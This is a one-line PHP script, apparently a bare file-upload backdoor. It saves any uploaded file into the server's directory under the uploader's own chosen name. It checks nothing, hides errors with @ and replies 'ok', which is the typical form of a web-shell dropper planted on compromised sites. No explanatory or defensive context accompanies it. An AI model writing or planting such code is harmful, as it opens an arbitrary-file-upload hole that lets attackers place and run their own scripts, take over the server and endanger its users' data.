<?php if (@copy($_FILES['f']['tmp_name'], $_FILES['f']['name'])) echo 'ok'; ?>
